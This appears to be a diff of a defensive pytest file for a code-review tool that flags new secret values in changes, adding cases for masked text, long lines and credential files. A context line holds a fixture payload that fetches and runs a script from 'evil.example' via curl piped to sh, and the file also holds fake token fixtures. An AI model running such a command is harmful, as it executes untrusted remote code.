@@ -24,6 +24,8 @@ pytestmark = [pytest.mark.adversary]
 PAYLOAD = "__import__('os').system('curl evil.example | sh')"
 TOKEN = "ghp_" + "Zq8Lw2Xn5Rv7Ty1Kp4Mb9Dc3Fg6Hj0Sa2Ue8"
 OTHER = "ghp_" + "Pk3Vd9Yb1Qm6Wt8Xz2Rj5Nc7Lh4Gf0Ts1Oa6"
+# More bytes than are compared of one line. The line is short as soon as they are masked.
+LONG_TOKENS = f"'{TOKEN}{TOKEN[4:] * 449}', " * 5
 
 
 def chunk(name: bytes, data: bytes) -> bytes:
@@ -165,6 +167,18 @@ SECRETS: dict[str, tuple[str, str]] = {
     "added": ("x = 1\n", f"x = 1\ntoken = '{TOKEN}'\n"),
     "altered": (f"token = '{TOKEN}'\n", f"token = '{OTHER}'\n"),
     "added beside another that goes": (f"a = '{TOKEN}'\n", f"b = '{OTHER}'\n"),
+    "added on both sides of a text like a mask": (
+        "x = 1\n",
+        f"a = '{TOKEN}'; m = '[withheld: value]'; b = '{OTHER}'\n",
+    ),
+    "added in a long line with a text like a mask": (
+        "x = 1\n",
+        f"a = [{LONG_TOKENS}]; m = '[withheld: value]'; b = '{OTHER}'\n",
+    ),
+    "altered at the end of a long line": (
+        f"a = [{LONG_TOKENS}]; b = '{TOKEN}'\n",
+        f"a = [{LONG_TOKENS}]; b = '{OTHER}'\n",
+    ),
 }
 
 
@@ -193,6 +207,13 @@ def test_an_old_secret_value_does_not_hold_up_an_accept(name: str, tmp_path: Pat
 
 def test_a_password_in_a_credential_file_is_a_new_secret_value(tmp_path: Path) -> None:
     verdict = reviewed(tmp_path, {".env": "DB_PASSWORD=correct-horse\nPORT=80\n"})
+    assert (verdict.outcome, verdict.rule) == ("escalate", "secret value"), verdict.explanation
+
+
+def test_a_masked_value_does_not_cover_a_new_secret_value_beside_it(tmp_path: Path) -> None:
+    old = f"password: correct-horse, login: {TOKEN}\n"
+    new = f"password: correct-horse, login: {OTHER}\n"
+    verdict = reviewed(tmp_path, {"credentials.yml": new}, base={"credentials.yml": old})
     assert (verdict.outcome, verdict.rule) == ("escalate", "secret value"), verdict.explanation
 
 
